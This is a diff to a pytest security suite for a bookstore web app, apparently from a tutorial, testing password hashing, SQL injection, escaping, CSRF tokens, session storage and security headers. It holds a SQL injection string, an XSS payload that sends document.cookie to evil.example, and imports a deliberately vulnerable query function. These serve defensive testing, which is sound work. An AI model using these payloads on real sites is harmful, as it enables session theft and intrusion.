@@ -1,17 +1,25 @@
 """Application security: passwords, SQL injection, XSS, CSRF, authorization, headers,
 login rate limiting."""
 
+import hashlib
 import re
 
 import pytest
 from argon2 import PasswordHasher
 from bookstore.security.csrf import csrf_token_is_valid, issue_csrf_token
+from bookstore.security.headers import SECURITY_HEADERS
 from bookstore.security.passwords import hash_password, make_hasher, verify_password
 from bookstore.security.vulnerable_examples import find_user_safe, find_user_vulnerable
+from fastapi import Response
 
 INJECTION = "' OR 1=1 --"
 OURS = {"Origin": "https://testserver"}  # a browser names the page's origin on every POST
-CSRF, SESSION = "__Host-csrf_token", "__Host-session"  # the cookies' names over HTTPS
+SESSION = "__Host-session"  # the session cookie's name over HTTPS
+
+
+def form_token(page) -> str:
+    """The CSRF token in the page's form, as a browser would send it back."""
+    return re.search(r'name="csrf_token" value="([^"]*)"', page.text)[1]
 
 
 # --8<-- [start:password_tests]
@@ -79,6 +87,16 @@ def test_bad_bearer_token_is_401_with_challenge(client):
     assert response.headers["WWW-Authenticate"] == "Bearer"
 
 
+def test_only_a_hash_of_the_session_token_is_stored(client, db, log_in):
+    token = log_in("oska@example.com")["Authorization"].removeprefix("Bearer ")
+    stored = [row[0] for row in db.execute("SELECT token_hash FROM sessions")]
+    assert stored == [hashlib.sha256(token.encode()).hexdigest()]
+    tables = [row[0] for row in db.execute("SELECT name FROM sqlite_schema WHERE type = 'table'")]
+    for table in tables:  # a copy of the database logs nobody in
+        for row in db.execute(f'SELECT * FROM "{table}"'):  # names from the schema, not input
+            assert all(token not in str(value) for value in row), table
+
+
 def test_sessions_expire(client, log_in, clock):
     headers = log_in("nina@example.com")
     assert client.get("/api/v1/orders", headers=headers).status_code == 200
@@ -113,8 +131,7 @@ def test_injection_through_the_api_is_harmless(client, log_in):
 
 # --8<-- [start:xss_test]
 def test_reviews_are_escaped_in_html(client):
-    page = client.get("/books/1")
-    token = page.cookies[CSRF]
+    token = form_token(client.get("/books/1"))
     attack = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
     posted = client.post(
         "/books/1/reviews",
@@ -132,74 +149,77 @@ def test_reviews_are_escaped_in_html(client):
 # --8<-- [end:xss_test]
 
 
-def post_review(client, token, headers=OURS):
+def post_review(client, token, headers=OURS, book=1):
     form = {"author_name": "x", "body": "spam", "csrf_token": token}
-    return client.post("/books/1/reviews", data=form, headers=headers, follow_redirects=False)
+    return client.post(f"/books/{book}/reviews", data=form, headers=headers, follow_redirects=False)
 
 
 # --8<-- [start:csrf_test]
 def test_form_post_without_csrf_token_is_403(client):
-    client.get("/books/1")  # the browser has the cookie, as in a real attack
+    client.get("/books/1")  # the browser has the session cookie, as in a real attack
     assert post_review(client, None).status_code == 403
 
 
 def test_form_post_with_someone_elses_token_is_403(client):
-    token = client.get("/books/1").cookies[CSRF]
-    client.cookies.clear()  # the victim's browser does not hold the attacker's cookie
+    token = form_token(client.get("/books/1"))  # the attacker's own, real token
+    client.cookies.clear()  # the victim's browser does not hold the attacker's session
     client.get("/books/2")  # ... but has its own
     assert post_review(client, token).status_code == 403
 
 
 def test_a_token_works_once_and_for_an_hour(client, clock):
-    token = client.get("/books/1").cookies[CSRF]
+    token = form_token(client.get("/books/1"))
     assert post_review(client, token).status_code == 303
-    assert post_review(client, token).status_code == 403  # a captured pair cannot be replayed
+    assert post_review(client, token).status_code == 403  # a captured token cannot be replayed
 
-    token = client.get("/books/1").cookies[CSRF]
+    token = form_token(client.get("/books/1"))
     clock.advance(3601)
     assert post_review(client, token).status_code == 403  # too old
 
 
-def test_a_post_from_another_origin_is_403_even_with_a_valid_token(client):
-    token = client.get("/books/1").cookies[CSRF]
-    assert post_review(client, token, {"Origin": "https://evil.example"}).status_code == 403
-    assert post_review(client, token, {}).status_code == 403  # the form needs an Origin
-    assert post_review(client, token).status_code == 303  # the token was not used up
+def test_two_open_tabs_each_keep_a_valid_form(client):
+    first_tab = form_token(client.get("/books/1"))
+    second_tab = form_token(client.get("/books/2"))  # opened later, in the same browser
+    assert post_review(client, first_tab, book=1).status_code == 303
+    assert post_review(client, second_tab, book=2).status_code == 303
 
 
-def test_a_planted_session_and_token_pair_is_ignored(client, settings, clock):
-    # Someone who can write cookies for the domain plants his own session id together
-    # with a real token issued for it: a pair that agrees with itself. Browsers refuse
-    # __Host- cookies from a subdomain or plain HTTP, and the server reads no other names.
+def test_a_planted_session_with_its_own_token_is_ignored(client, settings, clock):
+    # Someone who can write cookies for the domain plants their own session id and puts
+    # a real token issued for it in the forged form. Browsers refuse __Host- cookies from
+    # a subdomain or plain HTTP, and the server reads no other name.
     session = "a" * 43
-    token = issue_csrf_token(settings.secret_key, session, clock())
     client.cookies.set("session", session)
-    client.cookies.set("csrf_token", token)
+    token = issue_csrf_token(settings.secret_key, session, clock())
     assert post_review(client, token).status_code == 403
 
 
 # --8<-- [end:csrf_test]
 
 
+def test_a_post_from_another_origin_is_403_even_with_a_valid_token(client):
+    token = form_token(client.get("/books/1"))
+    assert post_review(client, token, {"Origin": "https://evil.example"}).status_code == 403
+    assert post_review(client, token, {}).status_code == 403  # the form needs an Origin
+    assert post_review(client, token).status_code == 303  # the token was not used up
+
+
 def test_a_planted_token_from_another_session_is_refused(settings, clock):
     # An attacker who can write cookies for the domain (a sibling subdomain, plain HTTP)
-    # plants a real token that the server issued for *his* session, cookie and form alike.
+    # gets a real token that the server issued for *their* session.
     attackers = issue_csrf_token(settings.secret_key, "attacker-session", clock())
-    assert csrf_token_is_valid(
-        settings.secret_key, attackers, attackers, "attacker-session", clock()
-    )
-    assert not csrf_token_is_valid(
-        settings.secret_key, attackers, attackers, "victim-session", clock()
-    )
+    assert csrf_token_is_valid(settings.secret_key, attackers, "attacker-session", clock())
+    assert not csrf_token_is_valid(settings.secret_key, attackers, "victim-session", clock())
 
 
 def test_csrf_token_needs_our_signature(settings, clock):
     token = issue_csrf_token(settings.secret_key, "s", clock())
-    assert csrf_token_is_valid(settings.secret_key, token, token, "s", clock())
+    assert csrf_token_is_valid(settings.secret_key, token, "s", clock())
     forged = token.rsplit(".", 1)[0] + "." + "0" * 64
-    assert not csrf_token_is_valid(settings.secret_key, forged, forged, "s", clock())
-    assert not csrf_token_is_valid(settings.secret_key, None, token, "s", clock())
-    assert not csrf_token_is_valid(settings.secret_key, "x.1.y", "x.1.y", "s", clock())
+    assert not csrf_token_is_valid(settings.secret_key, forged, "s", clock())
+    assert not csrf_token_is_valid("another-secret-" + "x" * 32, token, "s", clock())
+    assert not csrf_token_is_valid(settings.secret_key, None, "s", clock())
+    assert not csrf_token_is_valid(settings.secret_key, "x.1.y", "s", clock())
 
 
 def test_a_session_cookie_we_did_not_make_is_replaced(client):
@@ -208,17 +228,21 @@ def test_a_session_cookie_we_did_not_make_is_replaced(client):
     assert page.cookies[SESSION] != "chosen-by-the-attacker"
 
 
-def test_csrf_cookie_is_secure_httponly_strict(client):
+def test_the_session_cookie_is_secure_httponly_strict_and_the_only_one(client):
     cookies = client.get("/books/1").headers.get_list("set-cookie")
-    assert sorted(c.split("=")[0] for c in cookies) == [CSRF, SESSION]
+    assert [c.split("=")[0] for c in cookies] == [SESSION]  # the token is in the form only
     for cookie in cookies:  # what a __Host- cookie must have, or the browser drops it
         assert re.search(r"(?i)\bsecure\b", cookie) and "HttpOnly" in cookie
         assert "samesite=strict" in cookie.lower() and "Path=/" in cookie
         assert "domain=" not in cookie.lower()
 
 
+def test_a_page_that_carries_a_token_is_not_stored(client):
+    assert client.get("/books/1").headers["Cache-Control"] == "no-store"
+
+
 def test_review_of_a_missing_book_is_404(client):
-    token = client.get("/books/1").cookies[CSRF]
+    token = form_token(client.get("/books/1"))
     response = client.post(
         "/books/999/reviews",
         data={"author_name": "x", "body": "y", "csrf_token": token},
@@ -245,13 +269,39 @@ def test_users_see_only_their_own_orders(client, log_in):
 
 
 # --8<-- [start:security_headers_test]
-@pytest.mark.parametrize("path", ["/books/1", "/api/v1/books", "/api/v1/books/999"])
-def test_every_response_has_security_headers(client, path):
-    headers = client.get(path).headers
-    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
-    assert "default-src 'self'" in headers["Content-Security-Policy"]
-    assert headers["X-Content-Type-Options"] == "nosniff"
-    assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
+ANSWERS = [  # (status, method, path, request options): pages, API and error answers
+    (200, "GET", "/books/1", {}),
+    (200, "GET", "/api/v1/books", {}),
+    (404, "GET", "/api/v1/books/999", {}),
+    (403, "POST", "/api/v1/orders", {"headers": {"Origin": "https://evil.example"}}),
+    (413, "POST", "/api/v1/users", {"content": b"x" * 70_000}),
+    (422, "POST", "/api/v1/users", {"json": {"email": "not an address"}}),
+]
+
+
+@pytest.mark.parametrize(("status", "method", "path", "options"), ANSWERS)
+def test_every_response_has_security_headers(client, status, method, path, options):
+    response = client.request(method, path, **options)
+    assert response.status_code == status
+    for name, value in SECURITY_HEADERS.items():
+        assert response.headers[name] == value
+
+
+def test_a_route_keeps_its_own_header_and_a_500_gets_them_all(app, client):
+    @app.get("/embeddable")
+    def embeddable():
+        return Response("ok", headers={"X-Frame-Options": "SAMEORIGIN"})
+
+    @app.get("/boom")
+    def boom():
+        raise RuntimeError("unexpected")
+
+    own = client.get("/embeddable").headers
+    assert own["X-Frame-Options"] == "SAMEORIGIN"  # setdefault kept the route's value
+    assert own["Content-Security-Policy"] == SECURITY_HEADERS["Content-Security-Policy"]
+    failed = client.get("/boom")
+    assert failed.status_code == 500
+    assert all(failed.headers[name] == value for name, value in SECURITY_HEADERS.items())
 
 
 # --8<-- [end:security_headers_test]
